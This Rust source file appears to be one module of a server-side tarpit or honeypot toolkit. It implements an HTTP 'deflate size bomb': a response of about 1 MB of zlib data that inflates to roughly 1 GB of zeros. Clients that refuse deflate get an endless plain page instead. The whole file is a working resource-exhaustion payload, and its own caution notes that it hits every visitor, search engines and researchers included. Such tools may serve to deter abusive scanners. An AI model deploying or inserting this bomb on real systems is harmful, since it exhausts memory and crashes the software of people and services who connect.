//! `http_deflate_size_bomb`: 1 MB of deflate that inflates to 1 GB of zero bytes.
//!
//! HTTP's deflate is the zlib format (RFC 9110, section 8.4.1.2). A client that does not
//! accept it gets a plain page without an end instead.

use alloc::vec::Vec;

use crate::{
    base::pace::Pace,
    protocols::http::{Bomb, Coding, Exchange},
    script::{About, Cx, Heard, Script, Step},
    wire::deflate::{Repetition, Text, Wrapper},
};

/// See the module.
pub(crate) struct HttpDeflateSizeBomb;

/// What a client that accepts deflate inflates: 1,073,280,517 bytes.
static BOMB: Bomb = Bomb {
    coding: Coding::Deflate,
    name: "deflate",
    body: Repetition::new(&Wrapper::ZlibOfZeros, &TEXT, 520_000),
};

const TEXT: Text = Text { letters: &[0], preface: b"", unit: &[0] };

static ABOUT: About = About {
    aliases: &["http_deflate_bomb"],
    caution: Some(
        "it costs every visitor a gigabyte of memory, search engines and researchers too",
    ),
    protocol: Some(&super::HTTP),
    alpn: &["http/1.1"],
    ..About::new(
        "http_deflate_size_bomb",
        "sends 1 MB of deflate that inflates to 1 GB of zero bytes",
    )
};

impl Script for HttpDeflateSizeBomb {
    type State = Exchange;

    fn about(&self) -> &'static About {
        &ABOUT
    }

    fn pace(&self, exchange: &Exchange) -> Pace {
        BOMB.pace(exchange)
    }

    fn open(&self, cx: &mut Cx<'_>) -> Exchange {
        Exchange::open(cx)
    }

    fn step(&self, exchange: &mut Exchange, heard: Heard<'_, '_>, cx: &mut Cx<'_>) -> Step {
        BOMB.step(exchange, heard, cx)
    }

    fn speak(&self, exchange: &Exchange, cx: &mut Cx<'_>, out: &mut Vec<u8>) {
        BOMB.speak(exchange, cx, out);
    }
}
